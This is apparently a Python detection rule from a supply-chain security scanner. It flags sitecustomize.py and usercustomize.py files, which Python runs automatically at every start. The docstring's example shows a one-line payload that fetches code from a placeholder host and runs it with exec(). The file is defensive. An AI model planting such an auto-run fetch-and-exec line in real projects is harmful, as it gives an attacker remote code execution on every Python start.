"""What it sees
    A `sitecustomize.py` or `usercustomize.py` in a package or project.

Why it matters
    Python imports these by name at every start, from whatever folder comes first on its path. A package has no
    reason to bring one; a project that is opened with its folder on `PYTHONPATH` runs it with every tool.

Example
    # sitecustomize.py
    import urllib.request; exec(urllib.request.urlopen("https://files.example.test/a").read())

What to do
    Read it before Python is started in that folder.

False alarms
    Container images and debuggers install one: without network, processes or decoding it is context only.

References
    Python documentation, module `site`; ATT&CK T1546 (Event Triggered Execution).
"""

from collections.abc import Iterator

from lazaretto.detect.pycode import runs_code, sends_anything, starts_process
from lazaretto.detect.rule import Match, Rule
from lazaretto.model.finding import Confidence, Phase, Role, Severity, Signal
from lazaretto.model.text import N_
from lazaretto.parse.python import PythonModule

_FOUND = N_("{name} runs at every start of Python")
_ACTS = N_("{name} runs at every start of Python, and starts processes, executes text or uses the network")


def check(view: PythonModule) -> Iterator[Match | Signal]:
    """Yield one finding for such a file."""
    if view.blob.name not in {"sitecustomize.py", "usercustomize.py"}:
        return
    yield Signal("start", f"import\t{view.path}", view.path)
    acts = sends_anything(view) or any(starts_process(call) or runs_code(call) for call in view.facts.calls)
    yield Match(
        _ACTS if acts else _FOUND,
        params={"name": view.blob.name},
        excerpt=view.quote(1),
        severity=Severity.MEDIUM if acts and not view.is_test else Severity.LOW,
        confidence=Confidence.MEDIUM if _is_found(view.path) else Confidence.LOW,
    )


_ROOTS = frozenset({"src", "lib", "python", "site-packages", "dist-packages", "purelib", "platlib"})


def _is_found(path: str) -> bool:
    """Tell whether the file comes to lie where Python looks for it: not within a package of its archive."""
    folders = path.split("/")[:-1]
    return len(folders) < 2 or folders[-1] in _ROOTS


RULE = Rule(
    id="py/site-customize",
    title=N_("Runs at every start of Python"),
    view=PythonModule,
    severity=Severity.MEDIUM,
    confidence=Confidence.MEDIUM,
    phase=Phase.IMPORT,
    role=Role.TRIGGER,
    check=check,
    doc=__doc__ or "",
    techniques=("T1546",),
)
